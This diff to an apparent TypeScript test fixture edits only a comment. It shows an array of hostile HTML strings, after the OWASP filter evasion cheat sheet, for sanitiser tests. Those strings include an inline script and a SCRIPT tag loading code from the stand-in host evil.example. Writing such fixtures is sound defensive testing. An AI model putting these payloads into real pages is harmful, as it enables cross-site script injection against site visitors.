@@ -1,4 +1,4 @@
-/** Texts that would do harm as HTML, after the OWASP filter evasion cheat sheet and its neighbours; for tests (quality.md rows 114 to 118). */
+/** Texts that would do harm as HTML, after the OWASP filter evasion cheat sheet and its neighbours; for tests (docs/quality#row-114 to docs/quality#row-118). */
 export const hostile: readonly string[] = [
   '<script>window.__xss=1</script>',
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
